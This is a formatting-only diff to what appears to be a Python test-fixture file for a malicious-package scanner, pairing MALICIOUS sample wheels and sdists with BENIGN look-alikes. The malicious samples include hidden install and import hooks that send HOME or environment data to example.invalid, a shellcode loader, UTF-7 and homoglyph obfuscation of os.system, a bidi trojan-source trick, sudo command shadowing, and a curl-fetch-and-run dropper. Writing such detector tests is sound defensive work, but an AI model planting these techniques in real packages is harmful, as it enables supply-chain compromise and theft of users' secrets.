@@ -623,76 +623,167 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
     # each sends the environment to a host, which only weighs when it runs on its own.
     "exfiltration:atexit-hook": (
         "byebye-0.1-py3-none-any.whl",
-        wheel("byebye", "0.1", {"byebye/__init__.py": f"import atexit\nfrom atexit import register as later\n{LEAK_FN}\nlater(lambda: leak())\n"}),
+        wheel(
+            "byebye",
+            "0.1",
+            {
+                "byebye/__init__.py": f"import atexit\nfrom atexit import register as later\n{LEAK_FN}\nlater(lambda: leak())\n"
+            },
+        ),
     ),
     "exfiltration:decorator-runs-function": (
         "decor-0.1-py3-none-any.whl",
-        wheel("decor", "0.1", {"decor/__init__.py": "import os, urllib.request\n\n\ndef plugin(name):\n    def wrap(f):\n        f()\n        return f\n    return wrap\n\n\n@plugin('x')\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"}),
+        wheel(
+            "decor",
+            "0.1",
+            {
+                "decor/__init__.py": "import os, urllib.request\n\n\ndef plugin(name):\n    def wrap(f):\n        f()\n        return f\n    return wrap\n\n\n@plugin('x')\ndef leak():\n    urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n"
+            },
+        ),
     ),
     "exfiltration:init-subclass": (
         "subcls-0.1-py3-none-any.whl",
-        wheel("subcls", "0.1", {"subcls/__init__.py": "import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls, **kw):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Middle(Base):\n    pass\n\n\nclass Leaf(Middle):\n    pass\n"}),
+        wheel(
+            "subcls",
+            "0.1",
+            {
+                "subcls/__init__.py": "import os, urllib.request\n\n\nclass Base:\n    def __init_subclass__(cls, **kw):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Middle(Base):\n    pass\n\n\nclass Leaf(Middle):\n    pass\n"
+            },
+        ),
     ),
     "exfiltration:metaclass": (
         "metac-0.1-py3-none-any.whl",
-        wheel("metac", "0.1", {"metac/__init__.py": "import os, urllib.request\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Model(metaclass=Meta):\n    pass\n"}),
+        wheel(
+            "metac",
+            "0.1",
+            {
+                "metac/__init__.py": "import os, urllib.request\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        urllib.request.urlopen('http://example.invalid/?' + os.environ['HOME'])\n\n\nclass Model(metaclass=Meta):\n    pass\n"
+            },
+        ),
     ),
     "obfuscated-exec:decoded-module-name": (
         "modname-0.1-py3-none-any.whl",
-        wheel("modname", "0.1", {"modname/__init__.py": "import base64, importlib\n\n\ndef load(blob):\n    return importlib.import_module(base64.b64decode(blob).decode())\n"}),
+        wheel(
+            "modname",
+            "0.1",
+            {
+                "modname/__init__.py": "import base64, importlib\n\n\ndef load(blob):\n    return importlib.import_module(base64.b64decode(blob).decode())\n"
+            },
+        ),
     ),
     "obfuscated-exec:steganography": (
         "pixels-0.1-py3-none-any.whl",
-        wheel("pixels", "0.1", {"pixels/__init__.py": "from stegano import lsb\n\n\ndef show():\n    exec(lsb.reveal('pixels/logo.png'))\n"}),
+        wheel(
+            "pixels",
+            "0.1",
+            {
+                "pixels/__init__.py": "from stegano import lsb\n\n\ndef show():\n    exec(lsb.reveal('pixels/logo.png'))\n"
+            },
+        ),
     ),
     "shellcode-loader": (
         "memrun-0.1-py3-none-any.whl",
-        wheel("memrun", "0.1", {"memrun/__init__.py": "import ctypes\n\n\ndef run(buf):\n    k = ctypes.WinDLL('kernel32.dll')\n    p = getattr(k, 'VirtualAlloc')(0, len(buf), 0x3000, 0x40)\n    k.RtlMoveMemory(p, buf, len(buf))\n    k.CreateThread(0, 0, p, 0, 0, 0)\n"}),
+        wheel(
+            "memrun",
+            "0.1",
+            {
+                "memrun/__init__.py": "import ctypes\n\n\ndef run(buf):\n    k = ctypes.WinDLL('kernel32.dll')\n    p = getattr(k, 'VirtualAlloc')(0, len(buf), 0x3000, 0x40)\n    k.RtlMoveMemory(p, buf, len(buf))\n    k.CreateThread(0, 0, p, 0, 0, 0)\n"
+            },
+        ),
     ),
     "silent-process": (
         "quietrun-0.1-py3-none-any.whl",
-        wheel("quietrun", "0.1", {"quietrun/__init__.py": "import subprocess\n\nsubprocess.Popen(['pythonw', '-m', 'quietrun.agent'], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS)\n"}),
+        wheel(
+            "quietrun",
+            "0.1",
+            {
+                "quietrun/__init__.py": "import subprocess\n\nsubprocess.Popen(['pythonw', '-m', 'quietrun.agent'], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS)\n"
+            },
+        ),
     ),
     "disguised-identifier": (
         "fancy-0.1-py3-none-any.whl",
-        wheel("fancy", "0.1", {"fancy/__init__.py": "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')\n"}),
+        wheel(
+            "fancy",
+            "0.1",
+            {
+                "fancy/__init__.py": "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')\n"
+            },
+        ),
     ),
     "coding-trick:utf-7": (
         "seven-0.1-py3-none-any.whl",
-        wheel("seven", "0.1", {"seven/__init__.py": "# vim: set fileencoding=utf-7 :\n" + utf7_all("import os\nos.system('curl http://127.0.0.1/p | sh')\n")}),
+        wheel(
+            "seven",
+            "0.1",
+            {
+                "seven/__init__.py": "# vim: set fileencoding=utf-7 :\n"
+                + utf7_all("import os\nos.system('curl http://127.0.0.1/p | sh')\n")
+            },
+        ),
     ),
     "bidi-control": (
         "trojan-0.1-py3-none-any.whl",
-        wheel("trojan", "0.1", {"trojan/__init__.py": "def allowed(user):\n    role = 'user\u202e \u2066# admin\u2069 \u2066'\n    return role == 'admin'\n"}),
+        wheel(
+            "trojan",
+            "0.1",
+            {
+                "trojan/__init__.py": "def allowed(user):\n    role = 'user\u202e \u2066# admin\u2069 \u2066'\n    return role == 'admin'\n"
+            },
+        ),
     ),
     "exfiltration:in-tree-build-backend": (
         "backy-0.1.tar.gz",
-        sdist("backy", "0.1", {
-            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"_build.hooks:backend\"\nbackend-path = [\"tools\"]\n",
-            "tools/_build/hooks.py": f"{LEAK_FN}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    leak()\n    return 'backy-0.1-py3-none-any.whl'\n",
-            "backy/__init__.py": "",
-        }),
+        sdist(
+            "backy",
+            "0.1",
+            {
+                "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "_build.hooks:backend"\nbackend-path = ["tools"]\n',
+                "tools/_build/hooks.py": f"{LEAK_FN}\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    leak()\n    return 'backy-0.1-py3-none-any.whl'\n",
+                "backy/__init__.py": "",
+            },
+        ),
     ),
     "exfiltration:setup-cfg-cmdclass": (
         "cfgcmd-0.1.tar.gz",
-        sdist("cfgcmd", "0.1", {
-            "setup.cfg": "[metadata]\nname = cfgcmd\n\n[options]\npackages = cfgcmd\ncmdclass =\n    install = cfgcmd.commands.Install\n",
-            "setup.py": "from setuptools import setup\nsetup()\n",
-            "cfgcmd/__init__.py": "",
-            "cfgcmd/commands.py": f"from setuptools.command.install import install\n{LEAK_FN}\n\nclass Install(install):\n    def run(self):\n        leak()\n        install.run(self)\n",
-        }),
+        sdist(
+            "cfgcmd",
+            "0.1",
+            {
+                "setup.cfg": "[metadata]\nname = cfgcmd\n\n[options]\npackages = cfgcmd\ncmdclass =\n    install = cfgcmd.commands.Install\n",
+                "setup.py": "from setuptools import setup\nsetup()\n",
+                "cfgcmd/__init__.py": "",
+                "cfgcmd/commands.py": f"from setuptools.command.install import install\n{LEAK_FN}\n\nclass Install(install):\n    def run(self):\n        leak()\n        install.run(self)\n",
+            },
+        ),
     ),
     "command-shadowing": (
         "handy-0.1-py3-none-any.whl",
-        wheel("handy", "0.1", {"handy/__init__.py": "def main():\n    return 0\n", "handy-0.1.dist-info/entry_points.txt": "[console_scripts]\nhandy = handy:main\nsudo = handy:main\n"}),
+        wheel(
+            "handy",
+            "0.1",
+            {
+                "handy/__init__.py": "def main():\n    return 0\n",
+                "handy-0.1.dist-info/entry_points.txt": "[console_scripts]\nhandy = handy:main\nsudo = handy:main\n",
+            },
+        ),
     ),
     "startup-module": (
         "startup-0.1-py3-none-any.whl",
-        wheel("startup", "0.1", {"sitecustomize.py": "import startup\n", "startup/__init__.py": ""}),
+        wheel(
+            "startup", "0.1", {"sitecustomize.py": "import startup\n", "startup/__init__.py": ""}
+        ),
     ),
     "script-dropper": (
         "setupkit-0.1-py3-none-any.whl",
-        wheel("setupkit", "0.1", {"setupkit/__init__.py": "", "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n"}),
+        wheel(
+            "setupkit",
+            "0.1",
+            {
+                "setupkit/__init__.py": "",
+                "setupkit/bin/update.sh": "#!/bin/sh\ncurl -s http://127.0.0.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n",
+            },
+        ),
     ),
 }
 BENIGN: dict[str, bytes] = {
@@ -786,7 +877,7 @@ BENIGN: dict[str, bytes] = {
         "hooked",
         "1.0",
         {
-            "hooked/__init__.py": "# -*- coding: latin-1 -*-\n\"\"\"\u6570\u636e \uff21\uff22\uff23.\"\"\"\nimport atexit, shutil, tempfile, os\n\nTMP = tempfile.mkdtemp()\nREGISTRY = {}\n\n\ndef register(f):\n    REGISTRY[f.__name__] = f\n    return f\n\n\n@register\ndef home():\n    return os.environ.get('HOME')\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        REGISTRY[name] = cls\n\n\nclass Model(metaclass=Meta):\n    pass\n\n\natexit.register(shutil.rmtree, TMP, True)\n",
+            "hooked/__init__.py": '# -*- coding: latin-1 -*-\n"""\u6570\u636e \uff21\uff22\uff23."""\nimport atexit, shutil, tempfile, os\n\nTMP = tempfile.mkdtemp()\nREGISTRY = {}\n\n\ndef register(f):\n    REGISTRY[f.__name__] = f\n    return f\n\n\n@register\ndef home():\n    return os.environ.get(\'HOME\')\n\n\nclass Meta(type):\n    def __init__(cls, name, bases, ns):\n        REGISTRY[name] = cls\n\n\nclass Model(metaclass=Meta):\n    pass\n\n\natexit.register(shutil.rmtree, TMP, True)\n',
             "hooked-1.0.dist-info/entry_points.txt": "[console_scripts]\nhooked = hooked:main\n",
         },
     ),
@@ -794,7 +885,7 @@ BENIGN: dict[str, bytes] = {
         "selfbuild",
         "1.0",
         {
-            "pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"selfbuild.build_meta\"\nbackend-path = [\".\"]\n",
+            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "selfbuild.build_meta"\nbackend-path = ["."]\n',
             "selfbuild/__init__.py": "",
             "selfbuild/build_meta.py": "import os\nimport subprocess\nimport sys\n\n\ndef build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    subprocess.check_call([sys.executable, 'setup.py', 'bdist_wheel', '-d', wheel_directory])\n    return os.listdir(wheel_directory)[0]\n",
         },
